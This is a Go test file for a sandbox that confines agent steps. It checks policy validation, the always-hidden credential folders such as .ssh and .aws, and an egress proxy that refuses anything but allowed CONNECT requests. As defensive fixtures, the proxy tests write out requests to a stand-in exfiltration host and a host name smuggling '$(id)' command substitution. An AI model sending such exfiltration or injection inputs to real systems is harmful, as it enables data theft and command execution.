package sandbox

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"strings"
	"testing"
	"time"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/abcd-dev/abcd/domain/runner"
	"github.com/abcd-dev/abcd/ports"
)

// A policy the fence cannot honour is the caller's fault, named, before anything starts.
func TestAPolicyTheFenceCannotHonourIsRefused(t *testing.T) {
	ok := ports.SandboxPolicy{Role: ports.SandboxRoleImplementer, Write: []string{"/w/lane"}, Protect: []string{"/w/lane/.git"}, Hide: []string{"/w"}, Temp: "/t"}
	_, err := complete(ok, "/home/p", 3)
	assert.NilError(t, err)
	for _, c := range []struct {
		name string
		edit func(*ports.SandboxPolicy)
		why  string
	}{
		{"no temporary folder", func(p *ports.SandboxPolicy) { p.Temp = "" }, "no private temporary folder"},
		{"a reviewer that writes", func(p *ports.SandboxPolicy) { p.Role = "security-reviewer" }, `a "security-reviewer" step may write nowhere`},
		{"connect's call that writes", func(p *ports.SandboxPolicy) { p.Role = ports.SandboxRoleConnect }, "may write nowhere"},
		{"a relative root", func(p *ports.SandboxPolicy) { p.Write = []string{"lane"} }, "is not a clean absolute path"},
		{"an unclean root", func(p *ports.SandboxPolicy) { p.Hide = []string{"/w/../etc"} }, "is not a clean absolute path"},
		{"the whole file system", func(p *ports.SandboxPolicy) { p.Show = []string{"/"} }, "is not a clean absolute path below /"},
		{"a protected path outside every root", func(p *ports.SandboxPolicy) { p.Protect = []string{"/elsewhere/.git"} }, "lies in no writable root"},
		{"a root both writable and hidden", func(p *ports.SandboxPolicy) { p.Hide = []string{"/w/lane"} }, "is both writable and hidden"},
		{"a port that is none", func(p *ports.SandboxPolicy) { p.Endpoints = []runner.Endpoint{{Host: "api.example.test", Port: 0}} }, "is not a TCP port"},
		{"a host that is none", func(p *ports.SandboxPolicy) { p.Endpoints = []runner.Endpoint{{Host: "a b", Port: 443}} }, "is not a DNS name"},
		{"too many roots", func(p *ports.SandboxPolicy) {
			for i := range maxPaths + 1 {
				p.Show = append(p.Show, fmt.Sprintf("/s/%d", i))
			}
		}, "over the bound of 64"},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := ok
			c.edit(&p)
			_, err := complete(p, "/home/p", 3)
			var pe *PolicyError
			assert.Assert(t, err != nil)
			assert.Check(t, is.ErrorType(err, pe))
			assert.Check(t, is.Contains(err.Error(), c.why))
		})
	}
}

// Whatever the policy says, the fence hides the credential folders, the shared temporary folders and
// the person's runtime folder, and shows every writable root wherever it sits.
func TestEveryFenceHidesTheSameFolders(t *testing.T) {
	pl, err := complete(ports.SandboxPolicy{Role: ports.SandboxRoleImplementer, Write: []string{"/r/run/lane"}, State: []string{"/s"}, Hide: []string{"/r/run"}, Temp: "/t",
		Endpoints: []runner.Endpoint{{Host: "api.example.test", Port: 443}, {Host: "api.example.test", Port: 443}}}, "/home/p", 3)
	assert.NilError(t, err)
	for _, h := range []string{"/home/p/.ssh", "/home/p/.aws", "/home/p/.config/gcloud", "/home/p/.netrc", "/home/p/.docker", "/home/p/.kube",
		"/tmp", "/var/tmp", fmt.Sprintf("/run/user/%d", os.Getuid()), "/r/run"} {
		assert.Check(t, is.Contains(pl.Hide, h))
	}
	assert.Check(t, is.DeepEqual(pl.Write, []string{"/r/run/lane", "/s", "/t"}))
	assert.Check(t, is.DeepEqual(pl.Show, []string{"/r/run/lane", "/s", "/t"}))
	assert.Check(t, is.DeepEqual(pl.Endpoints, []string{"api.example.test:443"}))
}

// proxyClient sends raw to a proxy serving only allowed, and returns the status line it answered.
func proxyClient(t *testing.T, r *Running, raw string) string {
	t.Helper()
	c, err := net.Dial("tcp4", r.lns[len(r.lns)-1].Addr().String())
	assert.NilError(t, err)
	defer c.Close()
	assert.NilError(t, c.SetDeadline(time.Now().Add(10*time.Second)))
	_, err = c.Write([]byte(raw))
	assert.NilError(t, err)
	line, err := bufio.NewReader(c).ReadString('\n')
	assert.NilError(t, err)
	return strings.TrimSpace(line)
}

// The proxy is the only way out of the step's namespace, and the step is an adversary: it carries a
// CONNECT to an allowed endpoint and nothing else, never dials loopback for a name, and names what it
// refused in the words a host and port are spelled with.
func TestTheProxyTakesNothingButAnAllowedConnect(t *testing.T) {
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	assert.NilError(t, err)
	r := newRunning(runner.Sandbox{Refused: []string{}}, []string{"localhost:443", "api.example.test:443"}, 2*time.Second)
	defer r.Close()
	r.serve(ln, listener{Addr: ln.Addr().String(), Proxy: true})

	assert.Check(t, is.Equal(proxyClient(t, r, "GET http://exfil.example.test/?k=v HTTP/1.1\r\nHost: exfil.example.test\r\n\r\n"), "HTTP/1.1 405 Method Not Allowed"))
	assert.Check(t, is.Equal(proxyClient(t, r, "CONNECT exfil.example.test:443 HTTP/1.1\r\nHost: exfil.example.test:443\r\n\r\n"), "HTTP/1.1 403 Forbidden"))
	assert.Check(t, is.Equal(proxyClient(t, r, "CONNECT evil\x7f$(id).test:443 HTTP/1.1\r\n\r\n"), "HTTP/1.1 400 Bad Request"))
	assert.Check(t, is.Equal(proxyClient(t, r, "CONNECT x.test:443 HTTP/1.1\r\nX-Pad: "+strings.Repeat("a", maxConnectHead)+"\r\n\r\n"), "HTTP/1.1 400 Bad Request"))
	// An allowed name is never dialled at a loopback address: loopback is reached only as a loopback
	// endpoint, forwarded as one.
	assert.Check(t, is.Equal(proxyClient(t, r, "CONNECT localhost:443 HTTP/1.1\r\nHost: localhost:443\r\n\r\n"), "HTTP/1.1 502 Bad Gateway"))
	rc := r.Receipt()
	assert.Check(t, is.Equal(rc.NetworkRefused, 4))
	assert.Check(t, is.DeepEqual(rc.Refused, []string{"exfil.example.test", "exfil.example.test:443"}))
}
